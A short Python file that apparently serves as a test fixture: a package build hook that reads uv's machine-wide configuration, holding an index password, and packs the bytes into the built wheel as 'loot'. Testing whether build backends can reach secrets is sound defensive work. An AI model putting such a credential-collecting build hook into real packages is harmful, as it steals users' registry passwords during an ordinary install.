"""Reads the machine-wide configuration of uv, which names the index with its password."""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-config"):
        loot["data.bin"] = pathlib.Path(kit.plant("config").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
